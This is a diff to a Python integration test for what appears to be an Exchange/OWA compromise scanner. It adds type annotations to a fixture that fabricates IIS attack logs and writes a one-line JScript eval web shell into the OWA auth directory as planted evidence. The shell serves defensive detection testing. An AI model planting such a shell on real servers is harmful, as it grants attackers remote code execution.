@@ -21,7 +21,7 @@ from exhunt.model import Category
 from exhunt.options import ScanOptions
 from exhunt.report.formats import RenderOptions, render
 from exhunt.scan import scan
-from exhunt.testing.builder import EvidenceBuilder
+from exhunt.testing.builder import EvidenceBuilder, Row
 
 pytestmark = pytest.mark.integration
 
@@ -45,7 +45,9 @@ def _at(hour: int, minute: int = 0) -> datetime:
     return datetime(DAY.year, DAY.month, DAY.day, hour, minute, tzinfo=UTC)
 
 
-def _request(when: datetime, method: str, stem: str, query: str, user: str, agent: str) -> dict:
+def _request(
+    when: datetime, method: str, stem: str, query: str, user: str, agent: str | bytes
+) -> Row:
     return {
         "time": when, "s-ip": "10.0.0.5", "cs-method": method, "cs-uri-stem": stem,
         "cs-uri-query": query, "s-port": 443, "cs-username": user, "c-ip": ATTACKER,
@@ -57,7 +59,7 @@ def _request(when: datetime, method: str, stem: str, query: str, user: str, agen
 @pytest.fixture(scope="module")
 def evidence(tmp_path_factory: pytest.TempPathFactory) -> Path:
     b = EvidenceBuilder(tmp_path_factory.mktemp("hostile") / "evidence", build="15.1.2106.2")
-    probes = [
+    probes: list[Row] = [
         {"time": _at(hour, 30), "cs-method": "GET", "cs-uri-stem": "/owa/healthcheck.htm",
          "c-ip": "127.0.0.1", "sc-status": 200}
         for hour in range(24)
@@ -73,7 +75,7 @@ def evidence(tmp_path_factory: pytest.TempPathFactory) -> Path:
         # Bytes that are not UTF-8 at all.
         _request(_at(6, 4), "POST", "/owa/auth/x.aspx", "-", "-", b"Mozilla\xff\xfe\xed\xa0\x80"),
     ]  # fmt: skip
-    b.iis(1, DAY, sorted(probes + attacks, key=lambda row: row["time"]))
+    b.iis(1, DAY, sorted(probes + attacks, key=lambda row: str(row["time"])))
     shell = b.exchange("FrontEnd", "HttpProxy", "owa", "auth", SHELL_NAME)
     b.file(shell, '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>', _at(6))
     return b.root
